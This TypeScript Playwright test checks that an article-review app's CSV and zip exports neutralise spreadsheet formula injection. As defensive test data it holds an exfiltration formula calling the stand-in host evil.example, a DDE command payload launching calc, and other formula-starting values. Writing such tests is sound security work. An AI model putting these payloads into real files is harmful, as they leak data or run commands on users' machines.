import { test, expect } from "@playwright/test";
import { parse } from "csv-parse/sync";
import { unzipSync } from "fflate";
import type pg from "pg";
import { testDatabase } from "./people";
import { buildFixture, call, disposeCast, signOffCast, spanOf, SECOND_SPAN, type SignOffCast } from "./review-desk";

// No CSV the server sends lets a spreadsheet run a formula: an article, its annotations, a verdict's
// rationale and the author's name all start with =HYPERLINK(…), +, -, @, tab or CR; the article's
// CSV and a selection's zip are downloaded over HTTP and read back with csv-parse, an independent
// reader. Values go into the database directly: the forms trim leading tabs and returns, but data
// imported or written by other means need not.
test.describe.configure({ timeout: 120_000 });

const HYPERLINK = `=HYPERLINK("http://evil.example/steal?d="&A1,"Click for the source")`;
const FORMULA_START = /^[=+\-@\t\r]/;

let db: pg.Pool;
let cast: SignOffCast;

test.beforeAll(async ({ playwright, baseURL }) => {
  test.setTimeout(120_000);
  db = testDatabase();
  // The author's name is in every row they drafted.
  cast = await signOffCast(playwright, baseURL!, db, HYPERLINK);
});

test.afterAll(async () => {
  await disposeCast(cast);
  await db?.end();
});

/** Every cell, named by its column, from the CSV's bytes (UTF-8 with a byte order mark). */
function cells(bytes: Buffer): Record<string, string>[] {
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return parse(bytes, { bom: true, columns: true }) as Record<string, string>[];
}

test("an article whose fields start with formulas downloads as CSV with every cell neutralised, alone and in a zip", async () => {
  const { author } = cast;
  const fixture = await buildFixture("complete", cast);
  const { article } = fixture;
  for (const [kind, phrase] of [
    ["QUOTE", SECOND_SPAN],
    ["OPINION", "said on Tuesday"],
  ] as const) {
    const created = await call(author, article.path, "createAnnotationAction", {
      articleId: article.id,
      articleRevision: 1,
      kind,
      ...spanOf(article.text, phrase),
    });
    expect(created.result, created.text.slice(0, 300)).toMatchObject({ ok: true });
  }
  const rationale = { type: "doc", content: [{ type: "paragraph", content: [{ type: "text", text: "@SUM(A1:A2) per cent" }] }] };
  await db.query(`UPDATE "Article" SET title = $2 WHERE id = $1`, [article.id, HYPERLINK]);
  await db.query(`UPDATE "Annotation" SET "claimText" = $2, note = $3 WHERE "articleId" = $1 AND kind = 'CLAIM'`, [
    article.id,
    "+44 20 7946 0000",
    "-1+1",
  ]);
  await db.query(`UPDATE "Annotation" SET speaker = $2, "quoteOrigin" = $3, note = $4 WHERE "articleId" = $1 AND kind = 'QUOTE'`, [
    article.id,
    HYPERLINK,
    "\tcmd|' /C calc'!A0",
    "\r=1+1",
  ]);
  await db.query(`UPDATE "Annotation" SET holder = $2 WHERE "articleId" = $1 AND kind = 'OPINION'`, [article.id, "@SUM(1+1)*cmd"]);
  await db.query(`UPDATE "Verdict" SET rationale = $2 WHERE "annotationId" = $1`, [fixture.annotation.id, JSON.stringify(rationale)]);

  const single = await cast.editor.request.get(`/api/articles/${article.id}/export/csv`);
  expect(single.status()).toBe(200);
  expect(single.headers()["content-type"]).toBe("text/csv; charset=utf-8");
  const zipped = await cast.editor.request.post("/api/exports", { form: { ids: article.id, format: "csv" } });
  expect(zipped.status()).toBe(200);
  const [zipEntry, ...others] = Object.values(unzipSync(new Uint8Array(await zipped.body())));
  expect(others).toHaveLength(0);

  for (const [download, bytes] of [
    ["the article's CSV", await single.body()],
    ["the selection's zip", Buffer.from(zipEntry!)],
  ] as const) {
    const records = cells(bytes);
    expect(records, download).toHaveLength(3);
    for (const [row, record] of records.entries())
      for (const [column, value] of Object.entries(record))
        expect(value, `${download}, row ${row + 1}, ${column}: ${JSON.stringify(value)}`).not.toMatch(FORMULA_START);
    // Every hostile value is there, as text: a leading apostrophe and nothing else changed.
    const all = records.flatMap((record) => Object.values(record));
    for (const hostile of [HYPERLINK, "+44 20 7946 0000", "-1+1", "\tcmd|' /C calc'!A0", "\r=1+1", "@SUM(1+1)*cmd", "@SUM(A1:A2) per cent"])
      expect(all, `${download} holds '${JSON.stringify(hostile)}`).toContain(`'${hostile}`);
    for (const record of records) expect(record.author!.startsWith(`'${HYPERLINK} `), `author ${record.author}`).toBe(true);
    // And no cell boundary in the raw bytes is followed by the formula itself.
    expect(bytes.toString("utf8")).not.toMatch(/(^|[,\n"])=HYPERLINK/);
  }
});
